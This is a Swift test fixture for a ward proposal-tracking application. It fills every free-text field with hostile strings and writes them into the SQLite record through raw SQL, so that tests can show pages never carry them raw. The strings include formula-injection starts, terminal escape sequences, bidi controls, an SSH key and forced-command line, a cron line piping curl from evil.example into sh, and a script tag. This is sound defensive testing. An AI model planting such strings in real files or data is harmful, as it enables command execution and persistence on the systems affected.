// A record whose every free text is hostile (issue 10, item 5). The ward and its proposals
// are built through the workflow with a unique token in every free-text field a proposal
// can carry (title, dossier, comments, reasons, evaluation texts, names of officers and
// units, positions, numbers); then raw SQL replaces each token, in every text column of
// every table, with a string holding every byte that must not reach a page as it is. The
// input gate refuses those bytes, but whoever can write the file can put them there.

import Foundation
import GRDB
import Testing
import Ledger
import Procedure
@testable import Papers

enum Hostile {
    /// What a spreadsheet takes for a formula, one start per run of the fixture.
    static let starts = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-1+cmd", "@SUM(1+1)*cmd",
                         "\t=1+1", "\r=1+1"]
    /// A public key, a cron line, a forced-command option: each after a line break.
    static let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileKeyOfAnOfficer evil@x"
    static let cron = "* * * * * curl evil.example|sh"
    static let option = "command=\"sh\",no-pty ssh-rsa AAAAB3Nza evil"
    /// Every control a page must not carry: ESC with CSI 2J, OSC 52 (clipboard), OSC 8
    /// (hidden link), C1 CSI U+009B, NUL, DEL, each bidi control, U+2028/9.
    static let controls: [String] = ["\u{1B}[2J", "\u{1B}]52;c;ZXZpbA==\u{07}", "\u{1B}]8;;http://evil.example\u{1B}\\link\u{1B}]8;;\u{1B}\\",
                                     "\u{9B}31m", "\u{7F}"]
        + ["\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}",
           "\u{200E}", "\u{200F}", "\u{061C}", "\u{2028}", "\u{2029}"]

    /// The hostile text that replaces a token: a formula start, every control, then lines
    /// that sshd, cron or a shell would obey if they started a line, and an HTML tag.
    static func text(start: String, token: String) -> String {
        start + " " + token + controls.joined(separator: "x") + "\n" + key + "\n" + cron + "\n" + option
            + "\n=HYPERLINK(\"http://evil.example\")\n<script>alert(1)</script>"
            // A checkpoint line of its own, and one inside a line: `verify --against-file` must not read either.
            + "\nMã kiểm tra: \(fakeCode)\n<p class=\"checkpoint\">Mã kiểm tra: \(fakeCode)</p> x Checkpoint: \(fakeCode)"
            // Last: SQLite hands a plain text column back cut at its first NUL.
            + "\u{0}end"
    }

    /// A well-formed code that names no head of this record.
    static let fakeCode = ChainCheckpoint(seq: 1, hash: String(repeating: "0", count: 64)).code

    /// Whether a scalar is one no page may carry raw (line breaks and tab aside).
    static func isForbidden(_ scalar: Unicode.Scalar) -> Bool {
        let v = scalar.value
        if v == 0x0A || v == 0x0D || v == 0x09 { return false }
        return v < 0x20 || (0x7F...0x9F).contains(v) || [0x061C, 0x200E, 0x200F, 0x2028, 0x2029].contains(v)
            || (0x202A...0x202E).contains(v) || (0x2066...0x2069).contains(v)
    }
}

/// The hostile ward: proposals in every state that carries free text, the tokens replaced.
final class HostileFixture: Sendable {
    let base: RecordFixture
    var ledger: Ledger { base.ledger }
    /// The tokens, in the order they were handed out (each one field).
    let tokens: [String]
    /// Proposals: concluded (most fields), returned then withdrawn, out of scope, suspended,
    /// reported (the evaluation form), received with a member's checklist (the ballot form).
    let concluded: String, withdrawn: String, outOfScope: String, suspended: String, reported: String, balloting: String

    /// Hands out unique tokens (ZQ001X, …), one a field.
    final class Tokens: @unchecked Sendable {
        var all: [String] = []
        func next() -> String {
            let token = String(format: "ZQ%03dX", all.count + 1)
            all.append(token)
            return token
        }
    }

    init(start: String) throws {
        let t = Tokens()
        let day = RecordFixture.day
        // The ward, with token names (the fixture's logins).
        base = try RecordFixture(building: { ledger in
            let root = Procedure.Unit(id: "UBND", name: t.next(), kind: .peoplesCommittee, parentID: nil)
            let admin = Officer(login: RecordWard.admin, name: t.next(), unitID: "UBND", position: t.next(), isManaging: false)
            try ledger.initialize(root: root, administrator: admin, at: RecordFixture.origin)
            let actor = Actor(login: RecordWard.admin)
            try ledger.save(Procedure.Unit(id: "VHXH", name: t.next(), kind: .office, parentID: "UBND"), by: actor, at: RecordFixture.origin)
            for officer in RecordWard.officers {
                var o = officer
                o.name = t.next()
                o.position = t.next()
                try ledger.save(o, by: actor, at: RecordFixture.origin)
            }
            for grant in RecordWard.grants { try ledger.grant(grant, by: actor, at: RecordFixture.origin) }
        })
        let ledger = base.ledger
        func act(_ action: Action, _ id: String, _ login: String, _ date: Date) throws {
            try ledger.perform(action, on: id, by: Actor(login: login), at: date)
        }
        func dossier() -> Dossier {
            Dossier(
                title: t.next(), field: .digitalTransformation, legalBasis: .decree73,
                necessity: t.next(), bottleneck: t.next() + "\n" + t.next(), content: t.next() + "\n" + t.next(), scope: t.next(),
                implementers: t.next(), startDate: Day(year: 2026, month: 11, day: 16), endDate: Day(year: 2026, month: 11, day: 27),
                resources: ResourceNeeds(people: t.next(), fundingVND: 15_000_000, equipment: t.next()),
                feasibility: t.next(), positiveImpact: t.next(), negativeImpact: t.next(), expectedEffect: t.next(),
                targets: [Target(description: t.next(), measure: t.next()), Target(description: t.next(), measure: t.next())],
                selfCheck: ChecklistTemplate.standardItems.map { ChecklistAnswer(itemID: $0.id, verdict: .met, comment: t.next()) })
        }
        func checks() -> [ChecklistAnswer] {
            ChecklistTemplate.standardItems.map { ChecklistAnswer(itemID: $0.id, verdict: .met, comment: t.next() + "\n" + t.next()) }
        }
        func received(by proposer: String = RecordWard.staff) throws -> String {
            let p = try ledger.create(dossier(), by: Actor(login: proposer), at: RecordFixture.origin)
            try act(.submit, p.id, proposer, RecordFixture.origin)
            try act(.receive(receiptNumber: t.next()), p.id, RecordWard.clerk, RecordFixture.origin)
            return p.id
        }
        func voted() throws -> String {
            let id = try received()
            try act(.partyOpinion(stance: .agree, text: t.next(), committee: t.next()), id, RecordWard.liaison, day(3, 11, 2026))
            for member in [RecordWard.head, RecordWard.deputy] {
                try ledger.perform([.checklist(answers: checks()), .ballot(inFavour: true, comment: t.next() + "\n" + t.next())], on: id,
                                   by: Actor(login: member), at: day(4, 11, 2026))
            }
            return id
        }
        func approved() throws -> String {
            let id = try voted()
            // A decision's number is its reviewing unit's (issue 15): the register gives it; the
            // hostile code is drawn all the same, so the texts after it stay as they were.
            _ = t.next()
            try act(.decide(kind: .approve, number: "", reasons: t.next() + "\n" + t.next(), responsibilityStatement: ""), id,
                    RecordWard.head, day(5, 11, 2026))
            try act(.resource(fundingVND: 15_000_000, staff: t.next(), equipment: t.next(), reassignment: t.next(), noneNeededReason: ""), id,
                    RecordWard.head, day(6, 11, 2026))
            try act(.progress(percent: 50, note: t.next()), id, RecordWard.staff, day(20, 11, 2026))
            return id
        }
        func reportedProposal() throws -> String {
            let id = try approved()
            try act(.report(summary: t.next(), results: [TargetResult(target: 0, achieved: false, result: t.next() + "\n" + t.next()),
                                                        TargetResult(target: 1, achieved: true, result: t.next())]),
                    id, RecordWard.staff, day(30, 11, 2026))
            try act(.partyOpinion(stance: .agree, text: t.next(), committee: t.next()), id, RecordWard.liaison, day(1, 12, 2026))
            return id
        }

        concluded = try reportedProposal()
        let findings = FindingKind.allCases.map { Finding(kind: $0, holds: true, reason: t.next()) }
        let form = EvaluationForm(outcome: .partlyCompleted, damage: true, damageDescription: t.next(), damageEstimateVND: 4_000_000,
                                  findings: findings, objectiveCauses: t.next(), subjectiveCauses: t.next(),
                                  results: [TargetResult(target: 0, achieved: false, result: t.next()),
                                            TargetResult(target: 1, achieved: true, result: t.next())])
        // §7.3: every evaluating member files the form before the collective evaluation.
        if let reported = try ledger.proposal(concluded) {
            for member in reported.evaluatingMembers(in: try ledger.organization()) {
                try act(.memberEvaluation(form: form), concluded, member, day(2, 12, 2026))
            }
        }
        try act(.evaluate(form: form), concluded, RecordWard.head, day(2, 12, 2026))
        _ = t.next() // the conclusion's number is its unit's register's (issue 15)
        try act(.conclude(number: "", text: t.next() + "\n" + t.next()), concluded, RecordWard.head, day(3, 12, 2026))
        try act(.measure(kind: .liabilityReduced, decisionNumber: "2/QĐ-" + t.next(), day: Day(year: 2026, month: 12, day: 4) ?? Day(julianDayNumber: 0),
                         decidedBy: t.next(), reason: t.next()), concluded, RecordWard.head, day(4, 12, 2026))

        withdrawn = try received(by: RecordWard.staff2)
        try act(.returnForCompletion(reasons: t.next() + "\n" + t.next()), withdrawn, RecordWard.head, day(3, 11, 2026))
        try act(.withdraw(reason: t.next()), withdrawn, RecordWard.staff2, day(4, 11, 2026))

        outOfScope = try received()
        try act(.outOfScope(ground: .exceedsAuthority, reasons: t.next(), channel: t.next()), outOfScope, RecordWard.head, day(3, 11, 2026))

        suspended = try approved()
        try act(.directive(kind: .suspend, reason: t.next() + "\n" + t.next()), suspended, RecordWard.head, day(21, 11, 2026))

        reported = try reportedProposal()

        balloting = try received()
        try act(.partyOpinion(stance: .agree, text: t.next(), committee: t.next()), balloting, RecordWard.liaison, day(3, 11, 2026))
        try act(.checklist(answers: checks()), balloting, RecordWard.deputy, day(4, 11, 2026))

        tokens = t.all
        try Self.poison(path: base.path, tokens: tokens, start: start)
    }

    /// Replaces every token in every text column of every table (the event log's triggers
    /// dropped first) by the hostile text: raw in plain columns, JSON-escaped in JSON ones,
    /// so that the JSON still reads and holds the raw bytes.
    static func poison(path: String, tokens: [String], start: String) throws {
        // dexuat's SQL functions: the proposal's state is packed (v8-body-packing) and read and
        // written as JSON through the view `proposal_body`, poisoned here like a table.
        var config = Configuration()
        config.prepareDatabase { db in Ledger.prepareConnection(db) }
        let queue = try DatabaseQueue(path: path, configuration: config)
        try queue.write { db in
            try db.execute(sql: "DROP TRIGGER IF EXISTS event_no_update; DROP TRIGGER IF EXISTS event_no_delete")
            let tables = try String.fetchAll(db, sql: """
                SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE 'proposal_search%'
                """) + ["proposal_body"]
            for table in tables {
                let columns = try Row.fetchAll(db, sql: "SELECT name FROM pragma_table_info(?)", arguments: [table]).map { $0["name"] as String }
                for column in columns {
                    for token in tokens {
                        let raw = Hostile.text(start: start, token: token)
                        let escaped = String(String(decoding: try JSONEncoder().encode(raw), as: UTF8.self).dropFirst().dropLast())
                        try db.execute(sql: """
                            UPDATE "\(table)" SET "\(column)" = CASE WHEN substr("\(column)", 1, 1) IN ('{', '[')
                                THEN replace("\(column)", ?1, ?2) ELSE replace("\(column)", ?1, ?3) END
                            WHERE typeof("\(column)") = 'text' AND instr("\(column)", ?1) > 0
                            """, arguments: [token, escaped, raw])
                    }
                }
            }
        }
    }
}
